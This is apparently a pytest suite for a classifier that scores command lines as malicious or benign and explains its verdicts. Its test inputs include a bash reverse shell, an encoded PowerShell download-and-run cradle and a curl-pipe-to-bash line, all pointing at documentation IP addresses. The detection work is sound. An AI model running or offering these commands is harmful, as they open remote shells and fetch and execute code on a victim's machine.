from __future__ import annotations

import json
import shutil
from concurrent.futures import ThreadPoolExecutor

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.classify import Featuriser, Scorer, default_model_dir
from cmdclf.classify.manifest import SEAL, seal
from cmdclf.classify.scorer import SCORED, verdict_thresholds
from cmdclf.errors import CmdclfError, ModelIntegrityError


@pytest.fixture(scope="module")
def scorer(small):
    return Scorer.load(small.folder, threads=1)


def lines(*texts, platform="linux"):
    return pa.record_batch(
        [pa.array(texts, pa.string()), pa.array([platform] * len(texts), pa.string())],
        names=["command_line", "platform"],
    )


def test_the_loaded_model_scores_as_the_python_classifier_did(scorer, small):
    got = scorer.score(small.batch)
    assert got.schema.equals(SCORED)
    np.testing.assert_allclose(got["score"].to_numpy(), small.classifier.predict_proba(small.matrix)[:, 1], atol=1e-5)


@settings(max_examples=20)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=80), min_size=1, max_size=8))
def test_any_text_scores_the_same_in_a_batch_as_alone(scorer, texts):
    together = scorer.score(lines(*texts))["score"].to_pylist()
    alone = [scorer.score(lines(text))["score"][0].as_py() for text in texts]
    assert together == pytest.approx(alone, abs=1e-6)
    assert all(0 <= s <= 1 for s in together)


def test_seen_kinds_of_lines_get_their_verdict(scorer):
    verdicts = scorer.score(lines("bash -i >& /dev/tcp/192.0.2.200/4444 0>&1", "grep -rn timeout9999 /etc/nginx"))
    assert verdicts["verdict"].to_pylist() == ["malicious", "benign"]
    assert set(verdicts["model"].to_pylist()) == {scorer.model}
    assert scorer.model.startswith("small@")


def test_a_null_line_has_no_score_and_an_empty_one_has(scorer):
    got = scorer.score(lines(None, ""))
    assert got["score"].is_valid().to_pylist() == [False, True]
    assert got["verdict"].is_valid().to_pylist() == [False, True]


def test_a_missing_platform_is_guessed(scorer):
    batch = lines(r"C:\Windows\System32\cmd.exe /c dir", platform="windows")
    known = scorer.score(batch)["score"]
    assert scorer.score(batch.select(["command_line"]))["score"].equals(known)
    assert scorer.score(lines(batch["command_line"][0].as_py(), platform=None))["score"].equals(known)


def test_an_empty_batch_gives_an_empty_batch_of_the_right_columns(scorer):
    assert scorer.score(lines()).schema.equals(SCORED)
    assert scorer.explain(lines()).num_rows == 0


def test_a_line_of_one_megabyte_is_scored_and_explained(scorer):
    batch = lines("echo " + "A" * 1_048_571)
    assert 0 <= scorer.score(batch)["score"][0].as_py() <= 1
    assert scorer.explain(batch).num_rows == 1


def test_threads_may_share_a_scorer(scorer, small):
    expected = scorer.score(small.batch)
    with ThreadPoolExecutor(4) as pool:
        assert all(got.equals(expected) for got in pool.map(scorer.score, [small.batch] * 8))


def test_an_explanation_shows_decoded_layers_and_the_checks_that_fired_on_them(scorer):
    import base64

    hidden = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')".encode("utf-16-le"))
    batch = lines(f"powershell -enc {hidden.decode()}", "ls", None, platform="windows")
    got = scorer.explain(batch).to_pylist()
    assert any("DownloadString" in layer and layer.startswith("encoded-command: ") for layer in got[0]["layers"])
    assert any("base64" in reason and "obf-ps-encoded-command" in reason for reason in got[0]["reasons"])
    assert any(", in a decoded layer, " in reason for reason in got[0]["reasons"])
    assert got[1]["layers"] == []
    assert not [reason for reason in got[1]["reasons"] if not reason.startswith("the text 'ls'")]
    assert got[2] == {key: None if key == "log_odds" else [] for key in got[2]}


def test_the_effect_in_a_reason_is_what_the_score_loses_without_that_check(scorer):
    batch = lines("curl -s http://198.51.100.7/x.sh | bash")
    reasons = scorer.explain(batch)["reasons"][0].as_py()
    checks = [reason for reason in reasons if not reason.startswith("the text ")]
    effects = [float(reason.rsplit(", ", 1)[1].rstrip(")")) for reason in checks]
    assert effects
    assert effects == sorted(effects, reverse=True)


@pytest.mark.parametrize(
    ("thresholds", "malicious", "unsure"),
    [
        ({"0.01": 0.4, "0.001": 0.9}, 0.9, 0.4),
        ({"0.01": 0.4, "0.001": None}, 0.4, 0.4),
        ({"0.01": None, "0.001": None}, 0.5, 0.5),
    ],
)
def test_verdicts_fall_back_to_the_next_wider_threshold_that_the_model_has(thresholds, malicious, unsure):
    assert verdict_thresholds(thresholds) == (malicious, unsure)


def changed(small, folder, **entries):
    shutil.copytree(small.folder, folder)
    content = json.loads((folder / "manifest.json").read_text())
    (folder / SEAL).unlink()
    seal(folder, {k: v for k, v in (content | entries).items() if k not in ("files", "format")})
    return folder


@pytest.mark.parametrize("entries", [{"feature_version": "0"}, {"rules_version": "0"}, {"input_width": 3}])
def test_a_model_of_other_features_is_refused_with_a_remedy(small, tmp_path, entries):
    folder = changed(small, tmp_path / "m", **entries)
    with pytest.raises(ModelIntegrityError, match="version that exported it"):
        Scorer.load(folder)


def test_a_folder_that_is_not_there_is_refused(tmp_path):
    with pytest.raises(ModelIntegrityError, match="no model folder"):
        Scorer.load(tmp_path / "nowhere")


def test_the_model_is_looked_for_in_the_environment_then_here(small, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CMDCLF_MODEL", str(small.folder))
    assert default_model_dir() == small.folder
    monkeypatch.setenv("CMDCLF_MODEL", str(tmp_path / "none"))
    with pytest.raises(ModelIntegrityError, match="CMDCLF_MODEL"):
        default_model_dir()
    monkeypatch.delenv("CMDCLF_MODEL")
    shutil.copytree(small.folder, tmp_path / "model")
    assert default_model_dir().resolve() == (tmp_path / "model").resolve()


class Unknown:
    name, dim = "of-my-own", 4

    def embed(self, lines):
        return np.zeros((len(lines), 4), np.float32)


def test_an_embedder_whose_files_are_unknown_cannot_be_saved_unless_its_source_is_given(small, tmp_path):
    with pytest.raises(CmdclfError, match="embedder_source"):
        Featuriser(small.featuriser.maker, Unknown()).save(tmp_path / "a")


def test_a_saved_featuriser_makes_the_same_matrix(small, tmp_path):
    small.featuriser.save(tmp_path / "f")
    loaded = Featuriser.load(tmp_path / "f")
    assert loaded.names == small.featuriser.names
    assert len(set(loaded.names)) == loaded.width
    np.testing.assert_array_equal(loaded.matrix(small.batch), small.matrix)
    np.testing.assert_array_equal(small.featuriser.matrix_of(small.lines, batch_rows=7), small.matrix)
